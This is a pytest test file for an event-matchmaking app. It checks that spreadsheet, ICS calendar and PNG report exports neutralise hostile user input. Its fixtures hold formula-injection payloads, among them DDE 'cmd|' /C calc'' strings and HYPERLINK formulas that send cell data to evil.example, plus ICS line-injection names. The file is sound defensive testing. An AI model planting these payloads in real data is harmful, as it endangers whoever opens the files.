"""Issue 12: exports that user text cannot break (spreadsheet formulas, ICS lines, report PNG)."""

import csv
import io
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Connection

from app.services import backup
from app.services import event_exports as exports
from tests.factories import demand_payload, leader_payload, sme_payload

# Characters a spreadsheet (Excel, WPS, LibreOffice) may read as the start of a formula.
TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")

LEADER_FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
SME_FORMULAS = [
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example/","点击")',  # full-width equals sign
    "\x01=1+1",  # the XLSX cleaner drops \x01, which used to leave a bare "=1+1"
    "\u200b=1+1",  # zero-width space before the trigger
    "=cmd|'/C calc'!A0",  # DDE
]


def post(client: TestClient, url: str, payload: Any, code: int = 201) -> Any:
    r = client.post(url, json=payload)
    assert r.status_code == code, r.text
    return r.json()


def scheduled_event(
    client: TestClient,
    leader_names: list[str],
    sme_names: list[str],
    demand_titles: tuple[str, str] = ("转向架构架焊接件", "IGBT功率模块国产替代"),
    **event_fields: Any,
) -> dict[str, Any]:
    """Two leaders, six SMEs (the given names), a match list and a built schedule."""
    leaders = [post(client, "/api/v1/leaders", leader_payload(name=n)) for n in leader_names]
    demands = [
        post(
            client,
            "/api/v1/demands",
            demand_payload(
                leaders[0]["id"],
                title=demand_titles[0],
                keywords=["转向架", "构架", "焊接"],
                required_certifications=[],
            ),
        ),
        post(
            client,
            "/api/v1/demands",
            demand_payload(
                leaders[1]["id"],
                title=demand_titles[1],
                chain="it",
                keywords=["IGBT", "功率模块"],
                required_certifications=[],
            ),
        ),
    ]
    smes = [
        post(
            client,
            "/api/v1/smes",
            sme_payload(name=n, products=["转向架构架焊接件" if i < 3 else "IGBT功率模块"]),
        )
        for i, n in enumerate(sme_names)
    ]
    ev = post(
        client,
        "/api/v1/events",
        {
            "title": "高端装备产业链专场对接会",
            "chains": ["equipment", "it"],
            "date": "2027-03-18",
            "venue": "济南国际会展中心",
            "organizer": "省工信厅",
            "start_time": "09:00",
            "meeting_minutes": 30,
            "gap_minutes": 0,
            "slot_count": 4,
            "tables": 3,
        }
        | event_fields,
    )
    participants = [
        {"leader_id": leaders[0]["id"], "demand_ids": [demands[0]["id"]], "cap": 3},
        {"leader_id": leaders[1]["id"], "demand_ids": [demands[1]["id"]], "cap": 3},
    ] + [{"sme_id": s["id"], "cap": 2} for s in smes]
    post(client, f"/api/v1/events/{ev['id']}/participants", {"participants": participants}, 200)
    post(client, f"/api/v1/events/{ev['id']}/match-list", {}, 200)
    schedule = post(client, f"/api/v1/events/{ev['id']}/schedule", {}, 200)
    assert schedule["meetings"], schedule
    return {"event": ev, "leaders": leaders, "smes": smes, "schedule": schedule}


def _visible(text: str) -> str:
    """The text from its first character a person would see (spreadsheets skip the others)."""
    i = 0
    while i < len(text) and (text[i].isspace() or unicodedata.category(text[i])[0] in "CZ"):
        i += 1
    return text[i:]


def assert_inert(text: str, where: str) -> None:
    assert text[:1] not in TRIGGERS, f"{where}: {text!r} starts with a formula trigger"
    assert _visible(text)[:1] not in TRIGGERS, f"{where}: {text!r} hides a formula trigger"


def assert_workbook_inert(content: bytes) -> list[Any]:
    """No formula cell, no text cell or sheet title a spreadsheet would evaluate; the values."""
    wb = load_workbook(io.BytesIO(content))
    values = []
    for ws in wb.worksheets:
        assert_inert(ws.title, "sheet title")
        assert not ws.title.startswith("'") and not ws.title.endswith("'"), ws.title
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert_inert(cell.value, f"{ws.title}!{cell.coordinate}")
                values.append(cell.value)
    return values


@pytest.fixture
def formula_event(client: TestClient) -> dict[str, Any]:
    return scheduled_event(
        client,
        LEADER_FORMULAS,
        SME_FORMULAS,
        title="=1+1 对接会",
        venue="#N/A",  # an Excel error literal: must stay text, not an error cell
        organizer="-省工信厅",
    )


def test_schedule_csv_cells_are_inert(client: TestClient, formula_event: dict) -> None:
    ev_id = formula_event["event"]["id"]
    r = client.get(f"/api/v1/events/{ev_id}/schedule", params={"format": "csv"})
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows[0][0] == "场次" and len(rows) > 1
    for row in rows:
        for field in row:
            assert_inert(field, "csv")
    fields = {f for row in rows for f in row}
    # the text is kept, only made inert (OWASP: a leading single quote)
    assert "'" + LEADER_FORMULAS[0] in fields
    assert "'+1+cmd|' /C calc'!A0" in fields
    # real numbers stay plain numbers
    assert all(row[0].isdigit() for row in rows[1:] if row[0])


def test_schedule_xlsx_has_no_formula(client: TestClient, formula_event: dict) -> None:
    ev_id = formula_event["event"]["id"]
    r = client.get(f"/api/v1/events/{ev_id}/schedule", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    values = assert_workbook_inert(r.content)
    assert "'" + LEADER_FORMULAS[0] in values and "'=1+1 对接会" in values
    assert "'=1+1" in values  # "\x01=1+1" once its control character is dropped
    wb = load_workbook(io.BytesIO(r.content))
    overview = wb["总览"]
    numbers = [overview.cell(row=i, column=1) for i in range(2, overview.max_row + 1)]
    assert numbers and all(c.data_type == "n" and isinstance(c.value, int) for c in numbers)
    info = {row[0].value: row[1] for row in wb["活动信息"].iter_rows(min_row=2)}
    assert info["地点"].value == "#N/A" and info["地点"].data_type == "s"
    assert info["主办"].value == "'-省工信厅"
    # a sheet per leader is still there, named after the leader without the trigger
    assert len(wb.sheetnames) == 2 + len(LEADER_FORMULAS)


def test_report_xlsx_has_no_formula(client: TestClient, formula_event: dict) -> None:
    ev_id = formula_event["event"]["id"]
    m = formula_event["schedule"]["meetings"][0]
    post(
        client,
        f"/api/v1/meetings/{m['id']}/outcome",
        {"held": True, "outcome": "signed", "amount": 12.5},
        200,
    )
    r = client.get(f"/api/v1/events/{ev_id}/report", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    values = assert_workbook_inert(r.content)
    assert "'" + LEADER_FORMULAS[0] in values
    wb = load_workbook(io.BytesIO(r.content))
    totals = {row[0].value: row[1] for row in wb["对接成效"].iter_rows(min_row=2)}
    assert totals["金额(万元)"].value == 12.5 and totals["金额(万元)"].data_type == "n"


def test_backup_xlsx_has_no_formula(
    client: TestClient, formula_event: dict, connection: Connection, tmp_path: Path
) -> None:
    path = tmp_path / "chainmatch.xlsx"
    backup.export_xlsx(connection, path)
    values = assert_workbook_inert(path.read_bytes())
    assert "'" + LEADER_FORMULAS[0] in values and "'+1+cmd|' /C calc'!A0" in values
    wb = load_workbook(path)
    ids = [row[0] for row in wb["events"].iter_rows(min_row=2)]
    assert ids and all(c.data_type == "n" for c in ids)


def test_spreadsheet_cell_variants() -> None:
    """The one helper every export uses: each class of trigger, numbers untouched."""
    from app.services.spreadsheet import csv_cell, csv_text, xlsx_cell

    for text in [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u3000=1",  # ideographic space
        "\x1f=1",
        "\ufeff=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "﹦1",
        "=cmd|' /C calc'!A0",
    ]:
        assert_inert(csv_cell(text), "csv_cell")
        assert_inert(xlsx_cell(text), "xlsx_cell")
    for value in [0, -5, 3.25, -0.5, None, True]:
        assert csv_cell(value) == value and xlsx_cell(value) == value
    assert csv_cell("链主集团") == "链主集团" and xlsx_cell("链主\x0b集团") == "链主集团"
    # quoted fields: a ";" separator (some locales) cannot split off a live "=1+1"
    assert csv_text([["甲;=1+1", 3]], bom=False) == '"甲;=1+1","3"\r\n'
    assert xlsx_cell("=" + "x" * 40_000) == "'=" + "x" * 32_765  # Excel's cell limit


def test_workbook_sweep_and_sheet_titles() -> None:
    """A writer that forgot append_row still saves no formula; sheet names Excel accepts."""
    from openpyxl import Workbook

    from app.services.spreadsheet import sheet_title, workbook_bytes

    wb = Workbook()
    wb.active.title = "=evil"
    wb.active.append(["=1+1", "@A1", 7, "ok"])
    values = assert_workbook_inert(workbook_bytes(wb))
    assert values == ["'=1+1", "'@A1", 7, "ok"]

    used: set[str] = set()
    titles = [
        sheet_title(name, used, "链主")
        for name in ["'甲'", "甲", "History", "=", "a" * 40, "A" * 40, "😀" * 20, "[x]:*?/\\y"]
    ]
    assert titles[:4] == ["甲", "甲-2", "History-2", "链主"]
    assert titles[4].casefold() != titles[5].casefold()
    assert all(len(t.encode("utf-16-le")) // 2 <= 31 for t in titles)
    assert titles[-1] == "xy"


# -- ICS -------------------------------------------------------------------------------------

ICS_PROPERTIES = {
    "BEGIN",
    "END",
    "VERSION",
    "PRODID",
    "CALSCALE",
    "X-WR-CALNAME",
    "UID",
    "DTSTAMP",
    "DTSTART",
    "DTEND",
    "SUMMARY",
    "LOCATION",
    "DESCRIPTION",
}


def _unescape(value: str) -> str:
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m[1] in "nN" else m[1], value)


def test_ics_names_cannot_add_lines(client: TestClient) -> None:
    long_name = "超长名称的链主集团" * 22  # ~600 octets: must be folded, never inside a character
    leaders = ["甲集团\r\nATTENDEE:mailto:evil@example.com", "乙集团\rBEGIN:VEVENT"]
    smes = [
        "丙公司\nX-EVIL:1",
        "丁公司\u2028X-EVIL:2",
        "戊公司\x85X-EVIL:3",
        "己公司\x0bX-EVIL:4\x0c",
        long_name,
        "庚公司\r\n END:VEVENT",
    ]
    data = scheduled_event(
        client,
        leaders,
        smes,
        demand_titles=("转向架构架焊接件\rDTSTART:19700101T000000Z", "IGBT功率模块\n\rUID:x"),
        title="对接会\r\nMETHOD:REQUEST",
        venue="会展;中心,\\A",
    )
    ev_id = data["event"]["id"]
    meetings = data["schedule"]["meetings"]
    parties = {f"L{m['leader_id']}" for m in meetings} | {f"S{m['sme_id']}" for m in meetings}
    assert len(parties) >= 4
    for party in sorted(parties):
        r = client.get(f"/api/v1/events/{ev_id}/agenda", params={"party": party, "format": "ics"})
        assert r.status_code == 200, r.text
        raw = r.content
        assert raw.endswith(b"END:VCALENDAR\r\n")
        physical = raw[:-2].split(b"\r\n")
        for line in physical:
            assert b"\r" not in line and b"\n" not in line, line
            assert len(line) <= 75, (len(line), line)
            line.decode("utf-8")  # folding never splits a character
        text = raw.decode("utf-8")
        unfolded = re.sub(r"\r\n[ \t]", "", text)[:-2]
        lines = unfolded.split("\r\n")
        assert re.split(r"\r\n|\r|\n|\u2028|\u2029|\x85|\x0b|\x0c", unfolded) == lines
        for line in lines:
            name = re.split(r"[:;]", line, maxsplit=1)[0]
            assert name in ICS_PROPERTIES, f"{party}: injected line {line!r}"
            assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f\x85\u2028\u2029]", line), line
        own = [m for m in meetings if party in (f"L{m['leader_id']}", f"S{m['sme_id']}")]
        assert lines.count("BEGIN:VEVENT") == len(own)
        summaries = [_unescape(x[len("SUMMARY:") :]) for x in lines if x.startswith("SUMMARY:")]
        assert len(summaries) == len(own)
        locations = {_unescape(x[len("LOCATION:") :]) for x in lines if x.startswith("LOCATION:")}
        assert all(loc.startswith("会展;中心,\\A 第") for loc in locations), locations
    every = " ".join(
        client.get(f"/api/v1/events/{ev_id}/agenda", params={"party": p, "format": "ics"}).text
        for p in parties
    )
    assert "ATTENDEE:mailto:evil@example.com" in re.sub(r"\r\n[ \t]", "", every)  # kept as text


def test_ics_fold_is_utf8_aware() -> None:
    line = exports.ics_line("SUMMARY", "链" * 100 + "a" * 3 + "主" * 30)
    parts = line.encode("utf-8").split(b"\r\n")
    assert all(len(p) <= 75 for p in parts) and len(parts) > 1
    assert all(p.startswith(b" ") for p in parts[1:])
    assert b"".join(p[1:] if i else p for i, p in enumerate(parts)).decode() == (
        "SUMMARY:" + "链" * 100 + "aaa" + "主" * 30
    )


# -- report PNG ------------------------------------------------------------------------------

MATH_NAMES = ["$\\undefinedmacro$", "$x^$ \\frac{", "多行\n$\\alpha\r\n名称", "长" * 190]


# DejaVu Sans has no Chinese glyphs: matplotlib warns, and draws boxes.
pytestmark = pytest.mark.filterwarnings("ignore:Glyph .* missing from font")


@pytest.fixture
def drawn_names(monkeypatch: pytest.MonkeyPatch) -> None:
    """Draw the names as a machine with a CJK font would (the test machine may have none)."""
    monkeypatch.setattr(exports, "_cjk_font", lambda: "DejaVu Sans")


def test_report_png_draws_math_text_literally(client: TestClient, drawn_names: None) -> None:
    data = scheduled_event(
        client,
        MATH_NAMES[:2],
        [f"{n}{i}" for i, n in enumerate(MATH_NAMES * 2)][:6],
        title="$\\frac{$ 对接会",
    )
    ev_id = data["event"]["id"]
    r = client.get(f"/api/v1/events/{ev_id}/report", params={"format": "png"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "image/png" and r.content[:4] == b"\x89PNG"
    for i, name in enumerate(MATH_NAMES[2:]):
        r = client.patch(f"/api/v1/leaders/{data['leaders'][i]['id']}", json={"name": name})
        assert r.status_code == 200, r.text
    r = client.get(f"/api/v1/events/{ev_id}/report", params={"format": "png"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "image/png" and r.content[:4] == b"\x89PNG"


def test_report_png_with_thousands_of_leaders(drawn_names: None) -> None:
    names = MATH_NAMES * 750
    report = {
        "event": {"id": 1, "title": "$\\undefinedmacro$"},
        "per_leader": [
            {"leader_id": i, "name": n, "meetings_held": i % 7, "intentions": i % 3, "signings": 1}
            for i, n in enumerate(names)
        ],
    }
    png = exports.report_png(report)
    assert png[:4] == b"\x89PNG"
    from PIL import Image

    width, height = Image.open(io.BytesIO(png)).size
    assert width <= 4000 and height <= 4000


def test_report_png_without_leaders(client: TestClient) -> None:
    png = exports.report_png({"event": {"id": 1, "title": "空"}, "per_leader": []})
    assert png[:4] == b"\x89PNG"
